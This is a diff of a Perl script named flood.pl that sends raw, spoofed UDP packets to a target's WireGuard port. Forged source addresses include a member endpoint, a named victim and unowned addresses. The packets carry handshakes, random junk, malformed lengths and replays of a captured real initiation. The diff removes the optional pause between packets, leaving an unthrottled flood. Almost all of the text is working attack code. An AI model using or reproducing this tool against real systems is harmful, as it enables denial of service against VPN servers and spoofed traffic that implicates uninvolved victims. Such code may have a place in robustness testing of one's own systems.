@@ -1,12 +1,11 @@
-# flood.pl COUNT TARGET MEMBER PORT VICTIM INITIATION [PAUSE]: sends COUNT packets to WireGuard's port of TARGET (IPv4), each as if from
+# flood.pl COUNT TARGET MEMBER PORT VICTIM INITIATION: sends COUNT packets to WireGuard's port of TARGET (IPv4), each as if from
 # one of three: the endpoint MEMBER:PORT, VICTIM, or an address of nobody. They are handshake messages and data with ever new
 # indices, random bytes, messages of wrong lengths, and replays of INITIATION (hex), a real one.
-# After each it waits for PAUSE seconds.
 use strict;
 use warnings;
 use Socket;
 
-my ($count, $target, $member, $port, $victim, $initiation, $pause) = @ARGV;
+my ($count, $target, $member, $port, $victim, $initiation) = @ARGV;
 my $real = pack("H*", $initiation);
 my $noise = join("", map { chr(int(rand(256))) } 1 .. 1500);
 socket(my $socket, AF_INET, SOCK_RAW, 255) or die "raw socket: $!";
@@ -36,6 +35,5 @@ for (my $n = 0; $sent < $count; $n++) {
   my $udp = pack("nnnn", $source_port, 51820, 8 + length($payload), 0) . $payload;
   my $ip = pack("CCnnnCCna4a4", 0x45, 0, 20 + length($udp), 0, 0, 64, 17, 0, $from, $there);
   $sent++ if send($socket, $ip . $udp, 0, $to);
-  select(undef, undef, undef, $pause) if $pause;
 }
 print "$sent\n";
